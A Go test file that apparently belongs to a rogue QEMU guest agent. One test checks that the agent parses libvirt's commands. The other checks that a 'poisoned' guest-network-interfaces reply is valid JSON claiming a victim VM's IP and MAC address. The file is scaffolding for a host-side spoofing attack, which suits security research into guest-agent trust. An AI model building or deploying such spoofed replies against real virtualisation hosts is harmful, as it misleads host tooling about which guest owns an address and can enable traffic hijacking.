package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"strings"
	"testing"
)

// The agent reads what libvirt sends: a 0xFF delimiter before a command,
// braces inside strings, several commands back to back.
func TestReadObject(t *testing.T) {
	in := "\xff{\"execute\":\"guest-sync-delimited\",\"arguments\":{\"id\":7}}\n{\"execute\":\"x\",\"arguments\":{\"s\":\"}{\\\"\"}}"
	r := bufio.NewReader(strings.NewReader(in))
	for _, want := range []string{
		`{"execute":"guest-sync-delimited","arguments":{"id":7}}`,
		`{"execute":"x","arguments":{"s":"}{\""}}`,
	} {
		got, err := readObject(r)
		if err != nil || string(got) != want {
			t.Fatalf("readObject = %q, %v; want %q", got, err, want)
		}
	}
}

// The poisoned reply is JSON libvirt can parse, claiming the victim's
// address and MAC.
func TestInterfacesReplyPoison(t *testing.T) {
	b := interfacesReply(false, "52:54:00:31:00:50", "10.31.0.50")
	if !json.Valid(b) {
		t.Fatal("the reply is not valid JSON: libvirt would refuse all of it")
	}
	if !bytes.HasPrefix(b, []byte(`{"return": [`)) || !bytes.HasSuffix(b, []byte(`]}`)) {
		t.Fatalf("reply framing: %.60q … %q", b, b[len(b)-10:])
	}
	if !bytes.Contains(b, []byte(`"10.31.0.50"`)) || !bytes.Contains(b, []byte("52:54:00:31:00:50")) {
		t.Fatal("the victim's address and MAC are not claimed")
	}
	if bytes.Contains(b, []byte(",]")) || bytes.Contains(b, []byte(",}")) {
		t.Fatal("trailing comma")
	}
}
